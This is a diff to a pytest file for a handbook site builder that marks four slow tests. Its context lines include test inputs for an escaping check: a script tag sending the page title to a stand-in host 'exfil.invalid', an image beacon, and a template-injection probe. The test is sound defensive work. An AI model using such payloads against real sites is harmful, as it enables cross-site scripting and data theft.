@@ -104,6 +104,7 @@ def section(folder, name: str, content: dict) -> None:
     (folder / "my-sections" / f"{name}.yml").write_text(yaml.safe_dump(content))
 
 
+@pytest.mark.slow  # compiles the whole handbook, documents included
 def test_a_group_adds_and_replaces_in_short_points_and_adds_its_own_paragraph(tmp_path):
     group_file = write_group(tmp_path / "g")
     section(tmp_path / "g", "police", {"in_short": "replace", "points": ["Ring Jo on 0161 000 1111 first."],
@@ -124,6 +125,7 @@ MARKUP = ['<script>location = "https://exfil.invalid/?" + document.title</script
           '{{ group.__class__ }} <img src="https://exfil.invalid/p.gif">']
 
 
+@pytest.mark.slow  # compiles the whole handbook, documents included
 def test_markup_in_a_groups_own_words_for_a_section_is_shown_as_text(tmp_path):
     group_file = write_group(tmp_path / "g")
     section(tmp_path / "g", "police", {"points": MARKUP, "paragraph": "\n\n".join(MARKUP)})
@@ -147,6 +149,7 @@ def test_a_bad_override_is_one_clear_error(tmp_path, name, content, message):
     assert str(raised.value).startswith(message)
 
 
+@pytest.mark.slow  # compiles the whole handbook, documents included
 def test_after_an_upgrade_changes_replaced_points_the_build_warns_and_the_groups_words_survive(tmp_path):
     defaults = tmp_path / "handbook-1"
     for name in ("docs", "policy", "templates", "overrides", "mkdocs.yml"):
@@ -176,6 +179,7 @@ def test_a_brand_colour_too_light_to_read_is_refused_with_a_darker_suggestion(tm
     assert load_group(group_file).colour == suggestion
 
 
+@pytest.mark.slow  # compiles the whole handbook, documents included
 def test_a_logo_and_a_colour_reach_the_site(tmp_path):
     group_file = write_group(tmp_path / "g", colour='"#0b5394"', logo="logo.png")
     Image.new("RGB", (240, 80), "#0b5394").save(tmp_path / "g" / "logo.png")
